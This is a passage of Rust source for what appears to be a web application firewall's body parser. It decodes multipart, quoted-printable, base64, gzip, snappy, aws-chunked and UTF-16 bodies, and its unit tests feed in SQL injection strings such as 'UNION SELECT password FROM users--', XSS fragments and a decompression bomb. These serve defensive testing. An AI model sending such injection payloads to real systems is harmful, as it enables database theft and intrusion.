/// byte after `MSH`, and its segments end at line breaks. Anything else gives nothing.
fn segment_fields(text: &[u8]) -> Vec<(String, &[u8])> {
    let text = text.trim_ascii_start();
    let (field_sep, seg_sep): (u8, &[u8]) = if text.starts_with(b"ISA") {
        match (text.get(3), text.get(105..106)) {
            (Some(&e), Some(t)) if !e.is_ascii_alphanumeric() && !t.contains(&e) => (e, t),
            _ => return Vec::new(),
        }
    } else if text.starts_with(b"MSH") {
        match text.get(3) {
            Some(&f) if !f.is_ascii_alphanumeric() && !f.is_ascii_whitespace() => (f, b"\r\n"),
            _ => return Vec::new(),
        }
    } else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for seg in text.split(|b| seg_sep.contains(b)) {
        let seg = seg.trim_ascii();
        let mut fields = seg.split(|&b| b == field_sep);
        let Some(id) = fields.next().filter(|id| !id.is_empty() && id.len() <= 3) else {
            continue;
        };
        let id = String::from_utf8_lossy(id).into_owned();
        for (i, f) in fields.enumerate() {
            out.push((format!("{id}.{}", i + 1), f));
        }
    }
    out
}

/// The separator of a table: the most frequent of `,`, `;` and tab on its first line.
fn table_separator(text: &[u8]) -> u8 {
    let first = text.split(|&b| b == b'\n').next().unwrap_or_default();
    [b',', b';', b'\t']
        .into_iter()
        .max_by_key(|&c| first.iter().filter(|&&b| b == c).count())
        .unwrap_or(b',')
}

/// The rows of a table, each as its cells (RFC 4180: a quoted cell may hold separators,
/// line breaks and doubled quotes).
fn table_rows(text: &[u8], sep: u8) -> impl Iterator<Item = Vec<Vec<u8>>> + '_ {
    let mut at = 0;
    std::iter::from_fn(move || {
        if at >= text.len() {
            return None;
        }
        let mut cells = Vec::new();
        let mut cell = Vec::new();
        let mut quoted = false;
        while let Some(&b) = text.get(at) {
            at += 1;
            match (quoted, b) {
                (true, b'"') if text.get(at) == Some(&b'"') => {
                    cell.push(b'"');
                    at += 1;
                }
                (true, b'"') => quoted = false,
                (true, _) => cell.push(b),
                (false, b'"') if cell.iter().all(u8::is_ascii_whitespace) => {
                    cell.clear();
                    quoted = true;
                }
                (false, b'\n') => break,
                (false, b'\r') => {}
                (false, c) if c == sep => cells.push(std::mem::take(&mut cell)),
                (false, _) => cell.push(b),
            }
        }
        cells.push(cell);
        Some(cells)
    })
}

/// The lines of an iCalendar or vCard file with folded lines (a line break then a space or
/// tab) joined, one at a time (a caller that stops early unfolds no further).
fn unfolded_lines(text: &[u8]) -> impl Iterator<Item = Vec<u8>> + '_ {
    let mut raw = text
        .split(|&b| b == b'\n')
        .map(|l| l.strip_suffix(b"\r").unwrap_or(l))
        .peekable();
    std::iter::from_fn(move || {
        let mut line = raw.next()?.to_vec();
        while let Some(more) = raw.next_if(|l| matches!(l.first(), Some(b' ' | b'\t'))) {
            line.extend_from_slice(more.get(1..).unwrap_or_default());
        }
        Some(line)
    })
}

/// A content line's property name (upper case) and value: `SUMMARY;LANGUAGE=en:Standup`.
/// The value starts after the first `:` outside a quoted parameter.
fn property(line: &[u8]) -> Option<(String, &[u8])> {
    let mut quoted = false;
    let colon = line.iter().position(|&b| {
        if b == b'"' {
            quoted = !quoted;
        }
        b == b':' && !quoted
    })?;
    let head = line.get(..colon)?;
    let name_end = head.iter().position(|&b| b == b';').unwrap_or(head.len());
    let name = head.get(..name_end)?;
    if name.is_empty() || !name.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'-') {
        return None;
    }
    let prop = String::from_utf8_lossy(name).to_ascii_uppercase();
    if matches!(
        prop.as_str(),
        "BEGIN" | "END" | "VERSION" | "PRODID" | "CALSCALE"
    ) {
        return None;
    }
    Some((prop, line.get(colon + 1..)?))
}

/// An iCalendar/vCard text value with its escapes undone (`\,` `\;` `\\` `\n`).
fn unescape_text(v: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(v.len());
    let mut it = v.iter();
    while let Some(&b) = it.next() {
        if b == b'\\' {
            match it.next() {
                Some(b'n' | b'N') => out.push(b'\n'),
                Some(&c) => out.push(c),
                None => out.push(b),
            }
        } else {
            out.push(b);
        }
    }
    out
}

/// A multipart part's content as a file's (`FILES_CONTENT`): its text, up to
/// `max_file_inspect` bytes, and a zip archive's XML documents; a binary file is inspected as
/// its text and left out of `BODY`.
/// Returns the text.
fn push_file_content<'a>(
    req: &mut InspectedRequest,
    name: &str,
    content: &'a [u8],
) -> std::borrow::Cow<'a, [u8]> {
    let keep = content.len().min(req.limits().max_file_inspect);
    let text = crate::normalize::printable_text(content.get(..keep).unwrap_or_default());
    // An Office or OpenDocument file: its XML parts too, wherever they lie in the archive.
    let text = crate::normalize::with_zip_documents(text, content);
    if crate::normalize::has_binary_bytes(content) {
        req.note_binary_file(content);
    }
    req.push_body_item(Part::FileContent, Origin::Multipart, name, &text);
    text
}

/// A MIME part's `Content-Transfer-Encoding` that changes its bytes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Transfer {
    Base64,
    QuotedPrintable,
}

impl Transfer {
    fn parse(value: &[u8]) -> Option<Transfer> {
        let v = crate::normalize::trim(value);
        if v.eq_ignore_ascii_case(b"base64") {
            Some(Transfer::Base64)
        } else if v.eq_ignore_ascii_case(b"quoted-printable") {
            Some(Transfer::QuotedPrintable)
        } else {
            None
        }
    }

    fn name(self) -> &'static str {
        match self {
            Transfer::Base64 => "base64",
            Transfer::QuotedPrintable => "quoted-printable",
        }
    }

    /// The content decoded; `None` when it is not valid in this encoding.
    fn decode(self, content: &[u8]) -> Option<Vec<u8>> {
        match self {
            Transfer::Base64 => {
                let text: Vec<u8> = content
                    .iter()
                    .copied()
                    .filter(|b| !b.is_ascii_whitespace())
                    .collect();
                crate::normalize::decode_base64(&text)
            }
            Transfer::QuotedPrintable => Some(decode_quoted_printable(content)),
        }
    }
}

/// RFC 2045 quoted-printable: `=XX` is a byte, `=` at a line's end joins the next line; an
/// `=` that is neither stays as it is (lenient, as mail readers are).
fn decode_quoted_printable(content: &[u8]) -> Vec<u8> {
    let hex = |b: u8| char::from(b).to_digit(16);
    let mut out = Vec::with_capacity(content.len());
    let mut i = 0;
    while let Some(&b) = content.get(i) {
        if b == b'=' {
            match (content.get(i + 1), content.get(i + 2)) {
                (Some(b'\r'), Some(b'\n')) => {
                    i += 3;
                    continue;
                }
                (Some(b'\n'), _) => {
                    i += 2;
                    continue;
                }
                (Some(&h), Some(&l)) => {
                    if let (Some(h), Some(l)) = (hex(h), hex(l)) {
                        out.push((h * 16 + l) as u8);
                        i += 3;
                        continue;
                    }
                }
                _ => {}
            }
        }
        out.push(b);
        i += 1;
    }
    out
}

/// A MIME entity or an HTTP message split at the blank line after its headers (CRLF CRLF, or
/// LF LF): the headers and what follows; `None` when there is no blank line.
fn split_head(bytes: &[u8]) -> Option<(&[u8], &[u8])> {
    let (at, len) = match memchr::memmem::find(bytes, b"\r\n\r\n") {
        Some(p) => (p, 4),
        None => (memchr::memmem::find(bytes, b"\n\n")?, 2),
    };
    Some((
        bytes.get(..at).unwrap_or_default(),
        bytes.get(at + len..).unwrap_or_default(),
    ))
}

/// One `Name: value` header line of a MIME part or an embedded request: the name trimmed, the
/// value trimmed; `None` without a colon.
fn header_field(line: &[u8]) -> Option<(String, std::borrow::Cow<'_, [u8]>)> {
    let colon = memchr::memchr(b':', line)?;
    let name = String::from_utf8_lossy(line.get(..colon).unwrap_or_default())
        .trim()
        .to_string();
    Some((
        name,
        crate::normalize::trim(line.get(colon + 1..).unwrap_or_default()),
    ))
}

/// The pieces of an HTTP request carried in a batch part (`GET Orders?$filter=… HTTP/1.1`,
/// headers, a blank line, a body), pushed as body arguments named `http.…`. Returns false when
/// the argument limit stops it.
fn embedded_http(req: &mut InspectedRequest, content: &[u8]) -> bool {
    let (head, body) = split_head(content).unwrap_or((content, &b""[..]));
    let mut lines = head
        .split(|&b| b == b'\n')
        .map(|l| l.strip_suffix(b"\r").unwrap_or(l));
    let Some(line) = lines.next() else {
        return true;
    };
    // `METHOD target HTTP/x.y`; a target with spaces in it keeps them.
    let mut words = line.splitn(2, |&b| b == b' ');
    let target = words.nth(1).unwrap_or_default();
    let target = target
        .strip_suffix(b" HTTP/1.1")
        .or_else(|| target.strip_suffix(b" HTTP/1.0"))
        .unwrap_or(target);
    if !target.is_empty() {
        if !req.push_body_arg(Origin::Multipart, "http.url", None, target) {
            return false;
        }
        let (path, query) = crate::request::split_query(target);
        let path = crate::normalize::url_decode(path);
        if !req.push_body_arg(Origin::Multipart, "http.path", None, &path) {
            return false;
        }
        // Decoded as the top-level query is: `+` is a space (`$filter=a+eq+1+or+1+eq+1`).
        let query = query.unwrap_or_default();
        for (k, v) in crate::request::parse_pairs(query, b'&') {
            let name = format!("http.query.{}", String::from_utf8_lossy(&k));
            if !req.push_body_arg(Origin::Multipart, &name, Some(&k), &v) {
                return false;
            }
        }
    }
    for line in lines {
        let Some((hname, hvalue)) = header_field(line) else {
            continue;
        };
        let name = format!("http.header.{hname}");
        if !req.push_body_arg(Origin::Multipart, &name, None, &hvalue) {
            return false;
        }
    }
    let body = crate::normalize::trim(body);
    if body.is_empty() {
        return true;
    }
    req.push_body_arg(Origin::Multipart, "http.body", None, &body)
        && json_in_field(req, Origin::Multipart, "http.body", &body)
        && xml_in_field(req, Origin::Multipart, "http.body", &body)
}

/// One part: headers, then content. Returns false when limits stop the parse.
fn handle_part(
    req: &mut InspectedRequest,
    part: &[u8],
    parts: &mut usize,
    form: bool,
    depth: usize,
) -> bool {
    *parts += 1;
    if *parts > req.limits().max_parts {
        req.add_anomaly(Anomaly::MultipartTooManyParts);
        return false;
    }
    let (head, content) = split_head(part).unwrap_or_else(|| {
        req.add_anomaly(Anomaly::MultipartBadPartHeader);
        (part, &b""[..])
    });
    let mut name: Option<String> = None;
    let mut filename: Option<Vec<u8>> = None;
    // RFC 6266 / 5987: `filename*=utf-8''…` beside `filename` (what .NET's and Go's clients
    // send); an application may use either, so both are file names.
    let mut filename_ext: Option<Vec<u8>> = None;
    let mut part_type: Option<String> = None;
    let mut part_type_sent: Option<String> = None;
    let mut transfer: Option<Transfer> = None;
    let mut disposition_ok = false;
    let mut disposition_seen = false;
    for line in head.split(|&b| b == b'\n') {
        let line = line.strip_suffix(b"\r").unwrap_or(line);
        if line.is_empty() {
            continue;
        }
        let Some((hname, hvalue)) = header_field(line) else {
            req.add_anomaly(Anomaly::MultipartBadPartHeader);
            continue;
        };
        // A MIME part's transfer encoding is undone below and its content judged decoded.
        // In a form (RFC 7578 deprecates it there, and most form parsers ignore it) the
        // header is judged too: multipart-101 names it at PL2.
        if hname.eq_ignore_ascii_case("content-transfer-encoding") {
            transfer = Transfer::parse(&hvalue);
            if !form && transfer.is_some() {
                continue;
            }
        }
        // Every item of a part counts against the argument limit: a part may hold any
        // number of header lines.
        if !req.take_arg() {
            return false;
        }
        req.push_body_item(Part::PartHeader, Origin::Multipart, &hname, &hvalue);
        if hname.eq_ignore_ascii_case("content-type") {
            let sent = String::from_utf8_lossy(&hvalue).into_owned();
            part_type = Some(sent.to_ascii_lowercase());
            part_type_sent = Some(sent);
        }
        if hname.eq_ignore_ascii_case("content-disposition") {
            // Two of them: which one names the part depends on the parser (the first for
            // some, the last for others): a field to one is a file to the other.
            if std::mem::replace(&mut disposition_seen, true) {
                req.add_anomaly(Anomaly::MultipartBadPartHeader);
            }
            let v = String::from_utf8_lossy(&hvalue).into_owned();
            let mut params = split_params(&v).into_iter();
            if params
                .next()
                .is_some_and(|d| d.trim().eq_ignore_ascii_case("form-data"))
            {
                disposition_ok = true;
            }
            for p in params {
                let Some((k, val)) = p.split_once('=') else {
                    continue;
                };
                let k = k.trim().to_ascii_lowercase();
                let val = val.trim();
                let unq = val
                    .strip_prefix('"')
                    .map(|v| v.strip_suffix('"').unwrap_or(v))
                    .unwrap_or(val);
                match k.as_str() {
                    "name" => name = Some(unq.to_string()),
                    "filename" | "filename*" => {
                        let (slot, value) = if k == "filename" {
                            let name = encoded_words(unq);
                            (
                                &mut filename,
                                name.unwrap_or_else(|| unq.as_bytes().to_vec()),
                            )
                        } else {
                            (&mut filename_ext, ext_value(unq))
                        };
                        // The same parameter twice: which one counts depends on the parser.
                        if slot.is_some() {
                            req.add_anomaly(Anomaly::MultipartBadPartHeader);
                        }
                        *slot = Some(value);
                    }
                    _ => {}
                }
            }
        }
    }
    if !disposition_ok && form {
        req.add_anomaly(Anomaly::MultipartBadPartHeader);
    }
    let decoded = match transfer {
        Some(t) => match t.decode(content) {
            Some(d) => Some(d),
            None => {
                // Not what it says it is: judged as sent, and the header with it, marked as
                // not valid (multipart-100: a parser that decodes it anyway sees other bytes).
                if !req.take_arg() {
                    return false;
                }
                req.push_body_item(
                    Part::PartHeader,
                    Origin::Multipart,
                    "Content-Transfer-Encoding",
                    format!("{}; not valid", t.name()).as_bytes(),
                );
                None
            }
        },
        None => None,
    };
    // A form field's quoted-printable text as sent, too, where decoding changed it: a form
    // parser that ignores the header (most do) hands the application these bytes, and
    // decoding can break up what they say (`onerror=ab(1)` holds the escape `=ab`). Base64
    // as sent is only letters and digits (and is read for base64 text like any field).
    let sent_too = match (decoded.as_deref(), transfer) {
        (Some(d), Some(Transfer::QuotedPrintable)) if form && d != content => Some(content),
        _ => None,
    };
    let content: &[u8] = decoded.as_deref().unwrap_or(content);
    let name = name.unwrap_or_default();
    let mime = part_type
        .as_deref()
        .map(|t| t.split(';').next().unwrap_or(t).trim());
    // Outside a form, a multipart part is read part by part (an OData `$batch` changeset, the
    // signed entity of an AS2 or S/MIME message): its part headers are MIME, not text that
    // injects header lines. One that does not parse as multipart is judged as it is.
    if !form && depth < MAX_MIME_DEPTH && mime.is_some_and(|m| m.starts_with("multipart/")) {
        let sent = part_type_sent.unwrap_or_default();
        let mark = req.anomalies().len();
        if memchr::memmem::find(content, b"--").is_some()
            && parse_multipart(req, &sent, content, false, depth + 1)
        {
            return true;
        }
        req.truncate_anomalies(mark);
    }
    // A batch's `application/http` part is a request the server runs as if it came alone: its
    // target, query arguments, headers and body are judged as arguments (`BODY:multipart.
    // http.url`, `http.query.$filter`, `http.header.User-Agent`, `http.body…`), beside the
    // part's text as a document.
    if !form && mime == Some("application/http") && !embedded_http(req, content) {
        return false;
    }
    // Outside a form, a part that is binary or a message (a batch's `application/http`
    // request, a DICOM instance) is a document, inspected like an uploaded file.
    let document = !form
        && filename.is_none()
        && filename_ext.is_none()
        && (mime
            .is_some_and(|m| is_binary(m) || m == "application/http" || m.starts_with("message/"))
            || crate::normalize::has_binary_bytes(content));
    if document {
        if !req.take_arg() {
            return false;
        }
        push_file_content(req, &name, content);
        return true;
    }
    if let (Some(_), Some(ext)) = (&filename, &filename_ext) {
        if !req.take_arg() {
            return false;
        }
        req.push_body_item(Part::FileName, Origin::Multipart, &name, ext);
    }
    match filename.or(filename_ext) {
        Some(f) => {
            if !req.take_arg() {
                return false;
            }
            req.push_body_item(Part::FileName, Origin::Multipart, &name, &f);
            if let Some(sent) = sent_too {
                if !req.take_arg() {
                    return false;
                }
                push_file_content(req, &name, sent);
            }
            let text = push_file_content(req, &name, content);
            if let Some(kind) = records_kind(mime, &f) {
                push_records(req, Origin::Multipart, &name, kind, &text);
            }
            true
        }
        None => {
            if let Some(sent) = sent_too {
                if !req.push_body_arg(Origin::Multipart, &name, Some(name.as_bytes()), sent) {
                    return false;
                }
            }
            // (A field can hold JSON too: the GraphQL multipart upload's `operations`.)
            req.push_body_arg(Origin::Multipart, &name, Some(name.as_bytes()), content)
                && json_in_field(req, Origin::Multipart, &name, content)
                && xml_in_field(req, Origin::Multipart, &name, content)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::{
        decode_content, embedded_text, embedded_xml, graphql_shape, Decoded, MAX_EMBEDDED_XML,
    };
    use crate::request::{Anomaly, InspectedRequest, Item, Limits, Part};

    fn post(ct: &str, body: &str) -> InspectedRequest {
        post_with(Limits::default(), ct, body)
    }

    fn post_with(limits: Limits, ct: &str, body: &str) -> InspectedRequest {
        let mut req = crate::request::RequestBuilder::new(limits)
            .method("POST")
            .uri("/submit")
            .version("HTTP/1.1")
            .header("Content-Type", ct)
            .build();
        req.set_body(body.as_bytes().to_vec(), body.len() as u64);
        req
    }

    fn gzip(data: &[u8]) -> Vec<u8> {
        use std::io::Write as _;
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(data).unwrap();
        e.finish().unwrap()
    }

    fn zlib(data: &[u8]) -> Vec<u8> {
        use std::io::Write as _;
        let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(data).unwrap();
        e.finish().unwrap()
    }

    fn raw_deflate(data: &[u8]) -> Vec<u8> {
        use std::io::Write as _;
        let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
        e.write_all(data).unwrap();
        e.finish().unwrap()
    }

    fn decode(codings: &[&str], body: &[u8], truncated: bool, max: usize) -> Decoded {
        decode_content(codings.iter().map(|c| c.as_bytes()), body, truncated, max)
    }

    fn decoded(body: &[u8]) -> Decoded {
        Decoded::Bytes {
            body: body.to_vec(),
            cut: false,
        }
    }

    #[test]
    fn form_data_in_a_string_is_told_from_text() {
        for form in [
            "a=1&b=2",
            "_csrf_token=x&poll%5Bname%5D=Ann+Lee",
            "user[name]=x&user.id=3",
            "q=&x=1",
        ] {
            assert!(super::looks_like_form(form.as_bytes()), "{form}");
        }
        for text in [
            "",
            "=1&b=2",
            "a=1",
            "gift wrap please, a=1&b=2",
            "https://x.example/?a=1&b=2",
            "a b=1&c=2",
            "a=1&b=<x>",
            "a=\"1\"&b=2",
            "SKU-00001",
            "a&b=1",
        ] {
            assert!(!super::looks_like_form(text.as_bytes()), "{text}");
        }
    }

    #[test]
    fn form_data_inside_a_json_string_gives_its_pairs() {
        // Phoenix LiveView posts a form's fields as one urlencoded string in a JSON event.
        let body = r#"["6","86","lv:phx-1","event",{"type":"form","event":"save","value":"_csrf_token=abc&poll%5Blast_name%5D=1%27+AND+1%3D1--&poll%5Bn%5D=2","meta":{}}]"#;
        let req = post("application/json", body);
        let v = values(&req, Part::ArgPost);
        for want in [
            ("BODY:json.[4].value.poll[last_name]", "1' AND 1=1--"),
            ("BODY:json.[4].value._csrf_token", "abc"),
            ("BODY:json.[4].value.poll[n]", "2"),
        ] {
            assert!(
                v.contains(&(want.0.into(), want.1.into())),
                "{want:?} in {v:?}"
            );
        }
        let names = values(&req, Part::ArgPostName);
        assert!(
            names.contains(&(
                "BODY_NAMES:json.[4].value.poll[last_name]".into(),
                "poll[last_name]".into()
            )),
            "{names:?}"
        );
        // URLs with a query, prose and single pairs are not forms.
        for value in [
            "https://x.example/?a=1&b=2",
            "/search?q=a&page=2",
            "a=1",
            "Tom & Jerry = fun",
            "x&y",
        ] {
            let body = format!("{{\"v\":{}}}", serde_json::to_string(value).unwrap());
            let req = post("application/json", &body);
            assert_eq!(values(&req, Part::ArgPost).len(), 1, "{value}");
        }
        // Bounded by the argument limit.
        let many: String = (0..50).map(|i| format!("k{i}=v&")).collect();
        let limits = Limits {
            max_args: 10,
            ..Limits::default()
        };
        let req = post_with(limits, "application/json", &format!("{{\"v\":\"{many}\"}}"));
        assert!(req.anomalies().contains(&Anomaly::TooManyArgs));
    }

    #[test]
    fn json_lines_are_documents_of_their_own() {
        let bulk = "{\"index\":{\"_index\":\"books\"}}\n{\"title\":\"Dune\",\"tags\":[\"sf\"]}\r\n\n{\"index\":{}}\n{\"title\":\"x' OR 1=1--\"}\n";
        for ct in [
            "application/x-ndjson",
            "application/jsonl",
            "application/json",
        ] {
            let req = post(ct, bulk);
            assert!(req.anomalies().is_empty(), "{ct}: {:?}", req.anomalies());
            let v = values(&req, Part::ArgPost);
            for want in [
                ("BODY:json.[0].index._index", "books"),
                ("BODY:json.[1].title", "Dune"),
                ("BODY:json.[1].tags[0]", "sf"),
                ("BODY:json.[3].title", "x' OR 1=1--"),
            ] {
                assert!(
                    v.contains(&(want.0.into(), want.1.into())),
                    "{ct}: {want:?} in {v:?}"
                );
            }
        }
        // RFC 7464 records.
        let req = post(
            "application/json-seq",
            "\u{1e}{\"a\":\"b\"}\n\u{1e}[\"c\"]\n",
        );
        let v = values(&req, Part::ArgPost);
        assert_eq!(
            v,
            [
                ("BODY:json.[0].a".to_string(), "b".to_string()),
                ("BODY:json.[1][0]".to_string(), "c".to_string())
            ]
        );
        // A line that is not JSON: the body is invalid and inspected raw.
        let req = post("application/x-ndjson", "{\"a\":1}\nnot json\n");
        assert_eq!(req.anomalies(), &[Anomaly::JsonInvalid]);
        assert!(values(&req, Part::Body).iter().any(|(l, _)| l == "BODY"));
        // One document over several lines is one document, and a broken one stays broken.
        let req = post("application/json", "{\n  \"a\": \"b\"\n}\n");
        assert_eq!(
            values(&req, Part::ArgPost),
            [("BODY:json.a".into(), "b".into())]
        );
        let req = post("application/json", "{\n  \"a\": \"b\"\n");
        assert_eq!(req.anomalies(), &[Anomaly::JsonInvalid]);
        // The argument limit holds across lines.
        let many: String = (0..50).map(|i| format!("{{\"k\":{i}}}\n")).collect();
        let limits = Limits {
            max_args: 10,
            ..Limits::default()
        };
        let req = post_with(limits, "application/x-ndjson", &many);
        assert!(req.anomalies().contains(&Anomaly::TooManyArgs));
        assert!(values(&req, Part::ArgPost).len() <= 10);
    }

    fn utf16(text: &str, order: super::Utf16, bom: bool) -> Vec<u8> {
        let mut out = Vec::new();
        if bom {
            out.extend_from_slice(match order {
                super::Utf16::Le => &[0xff, 0xfe],
                super::Utf16::Be => &[0xfe, 0xff],
            });
        }
        for u in text.encode_utf16() {
            out.extend_from_slice(&match order {
                super::Utf16::Le => u.to_le_bytes(),
                super::Utf16::Be => u.to_be_bytes(),
            });
        }
        out
    }

    #[test]
    fn utf16_bodies_are_read_as_their_text() {
        use super::{utf16_order, utf16_to_utf8, Utf16};
        let json = "{\"q\":\"caf\u{e9} \u{1f600} x' OR 1=1--\"}";
        for order in [Utf16::Le, Utf16::Be] {
            for bom in [true, false] {
                let body = utf16(json, order, bom);
                for ct in [
                    "application/json",
                    "application/json; charset=utf-16",
                    "text/xml; charset=\"UTF-16\"",
                ] {
                    assert_eq!(
                        utf16_order(Some(ct.as_bytes()), &body),
                        Ok(Some(order)),
                        "{ct} {order:?} {bom}"
                    );
                }
                assert_eq!(utf16_to_utf8(&body, order), json.as_bytes());
            }
            let named = match order {
                Utf16::Le => "application/json; charset=utf-16le",
                Utf16::Be => "application/json; charset=utf-16be",
            };
            assert_eq!(
                utf16_order(Some(named.as_bytes()), &utf16(json, order, false)),
                Ok(Some(order))
            );
        }
        // Declared UTF-16, sent as UTF-8 (or in the other byte order): what the application
        // reads depends on it honouring the charset.
        for ct in [
            "application/json; charset=utf-16",
            "application/json; charset=utf-16le",
        ] {
            assert_eq!(
                utf16_order(Some(ct.as_bytes()), json.as_bytes()),
                Err(Anomaly::CharsetMismatch),
                "{ct}"
            );
        }
        assert_eq!(
            utf16_order(
                Some(b"application/json; charset=utf-16le"),
                &utf16(json, Utf16::Be, false)
            ),
            Err(Anomaly::CharsetMismatch)
        );
        // UTF-8 text, binary with a few NULs, UTF-32: not UTF-16.
        assert_eq!(
            utf16_order(Some(b"application/json"), json.as_bytes()),
            Ok(None)
        );
        assert_eq!(utf16_order(None, b"a\0b\0c\0\0\0\0\0"), Ok(None));
        let utf32: Vec<u8> = json
            .chars()
            .flat_map(|c| u32::from(c).to_le_bytes())
            .collect();
        assert_eq!(utf16_order(Some(b"application/json"), &utf32), Ok(None));
        assert_eq!(
            utf16_order(
                Some(b"application/json"),
                &[0xff, 0xfe, 0, 0, b'{', 0, 0, 0]
            ),
            Ok(None)
        );
        // Unpaired surrogates and a cut last byte; the most text grows (a fuzz run found it):
        // two bytes of a lone surrogate become the three of U+FFFD.
        assert_eq!(
            utf16_to_utf8(&[0x00, 0xd8, b'a', 0, b'b'], Utf16::Le),
            "\u{fffd}a".as_bytes()
        );
        let lone = [0x00u8, 0xdc].repeat(1000);
        assert_eq!(utf16_to_utf8(&lone, Utf16::Le).len(), 3000);
        // Parsed as the JSON it is.
        let body = utf16(json, Utf16::Le, true);
        let mut req = crate::request::RequestBuilder::new(Limits::default())
            .method("POST")
            .uri("/submit")
            .version("HTTP/1.1")
            .header("Content-Type", "application/json; charset=utf-16")
            .build();
        req.set_body(body.clone(), body.len() as u64);
        assert_eq!(req.transcoded_from(), Some("utf-16le"));
        assert!(req.anomalies().is_empty(), "{:?}", req.anomalies());
        let v = values(&req, Part::ArgPost);
        assert_eq!(
            v,
            [(
                "BODY:json.q".to_string(),
                "caf\u{e9} \u{1f600} x' OR 1=1--".to_string()
            )]
        );
    }

    #[test]
    fn content_codings_are_undone_in_reverse_order() {
        let text = b"{\"q\":\"hello\"}";
        assert_eq!(decode(&[], text, false, 1 << 20), Decoded::Identity);
        assert_eq!(
            decode(&["identity", " "], text, false, 1 << 20),
            Decoded::Identity
        );
        assert_eq!(
            decode(&["gzip"], &gzip(text), false, 1 << 20),
            decoded(text)
        );
        assert_eq!(
            decode(&[" X-GZIP "], &gzip(text), false, 1 << 20),
            decoded(text)
        );
        assert_eq!(
            decode(&["deflate"], &zlib(text), false, 1 << 20),
            decoded(text)
        );
        assert_eq!(
            decode(&["Deflate"], &raw_deflate(text), false, 1 << 20),
            decoded(text)
        );
        // `Content-Encoding: deflate, gzip` (or two headers): gzip was applied last.
        let both = gzip(&zlib(text));
        assert_eq!(
            decode(&["deflate, gzip"], &both, false, 1 << 20),
            decoded(text)
        );
        assert_eq!(
            decode(&["deflate", "gzip"], &both, false, 1 << 20),
            decoded(text)
        );
        assert_eq!(
            decode(&["gzip, deflate"], &both, false, 1 << 20),
            Decoded::Failed(Anomaly::EncodingInvalid)
        );
        // Nothing to decode: no anomaly, whatever the header says.
        assert_eq!(decode(&["br"], b"", false, 1 << 20), Decoded::Identity);
    }

    #[test]
    fn every_gzip_member_is_read() {
        // Go's and Node's gzip readers read concatenated members as one stream: a payload in
        // the second one reaches the application, so it must reach the rules.
        let mut body = gzip(b"q=hello&");
        body.extend_from_slice(&gzip(b"r=' OR 1=1--"));
        assert_eq!(
            decode(&["gzip"], &body, false, 1 << 20),
            decoded(b"q=hello&r=' OR 1=1--")
        );
    }

    #[test]
    fn aws_chunked_uploads_are_unframed() {
        let sig =
            "chunk-signature=ad80c730a21e5b8d04586a2213dd63b9a0e99e0e2307b0ade35a65485a288648";
        let body = format!(
            "7;{sig}\r\nq=' OR \r\n5;{sig}\r\n1=1--\r\n0;{sig}\r\nx-amz-checksum-crc32:AAAAAA==\r\n\r\n"
        );
        assert_eq!(
            decode(&["aws-chunked"], body.as_bytes(), false, 1 << 20),
            decoded(b"q=' OR 1=1--")
        );
        // Bounded like any other decoding; a broken frame is an invalid encoding.
        assert_eq!(
            decode(&["aws-chunked"], body.as_bytes(), false, 4),
            Decoded::Bytes {
                body: b"q=' ".to_vec(),
                cut: true
            }
        );
        assert_eq!(
            decode(&["aws-chunked"], b"zz;x\r\nabc\r\n", false, 1 << 20),
            Decoded::Failed(Anomaly::EncodingInvalid)
        );
    }

    #[test]
    fn snappy_blocks_are_decoded_and_bounded() {
        // "hello " as a literal, then a 17-byte reference 6 back (overlapping itself).
        let mut block = vec![23u8, 5 << 2];
        block.extend_from_slice(b"hello ");
        block.extend_from_slice(&[(17 - 1) << 2 | 2, 6, 0]);
        assert_eq!(
            decode(&["snappy"], &block, false, 1 << 20),
            decoded(b"hello hello hello hello")
        );
        // A literal whose length takes a byte of its own, a 1-byte-offset reference.
        let text = b"q=' UNION SELECT password FROM users-- padding padding padding padding padding padding x";
        let mut block = vec![text.len() as u8 + 8, 60 << 2, text.len() as u8 - 1];
        block.extend_from_slice(text);
        block.extend_from_slice(&[(8 - 4) << 2 | 1, 8]);
        let mut want = text.to_vec();
        want.extend_from_slice(&text[text.len() - 8..]);
        assert_eq!(decode(&["snappy"], &block, false, 1 << 20), decoded(&want));
        // A reference before the start, a length that does not add up, an empty block.
        assert_eq!(
            decode(&["snappy"], &[4, 1 << 2 | 1, 9], false, 1 << 20),
            Decoded::Failed(Anomaly::EncodingInvalid)
        );
        assert_eq!(
            decode(&["snappy"], &[9, 0, b'a'], false, 1 << 20),
            Decoded::Failed(Anomaly::EncodingInvalid)
        );
        // A bomb: a billion bytes declared, one byte and references to it; cut at the bound.
        let mut bomb = vec![0x80, 0x94, 0xeb, 0xdc, 0x03, 0, b'x'];
        for _ in 0..100_000 {
            bomb.extend_from_slice(&[63 << 2 | 2, 1, 0]);
        }
        match decode(&["snappy"], &bomb, false, 1 << 16) {
            Decoded::Bytes { body, cut } => {
                assert_eq!(body.len(), 1 << 16);
                assert!(cut);
                assert!(body.iter().all(|&b| b == b'x'));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn what_cannot_be_decoded_is_an_anomaly() {
        let text = b"plain text, not compressed";
        for coding in ["br", "zstd", "compress", "gzip;q=1", "chunked"] {
            assert_eq!(
                decode(&[coding], &gzip(text), false, 1 << 20),
                Decoded::Failed(Anomaly::EncodingUnsupported),
                "{coding}"
            );
        }
        assert_eq!(
            decode(&["gzip, gzip, gzip, gzip"], text, false, 1 << 20),
            Decoded::Failed(Anomaly::EncodingUnsupported)
        );
        assert_eq!(
            decode(&["gzip"], text, false, 1 << 20),
            Decoded::Failed(Anomaly::EncodingInvalid)
        );
        assert_eq!(
            decode(&["deflate"], text, false, 1 << 20),
            Decoded::Failed(Anomaly::EncodingInvalid)
        );
        // Garbage after a complete member is not a member.
        let mut trailing = gzip(text);
        trailing.extend_from_slice(b"<script>");
        assert_eq!(
            decode(&["gzip"], &trailing, false, 1 << 20),
            Decoded::Failed(Anomaly::EncodingInvalid)
        );
    }

    #[test]
    fn inflating_stops_at_the_bound() {
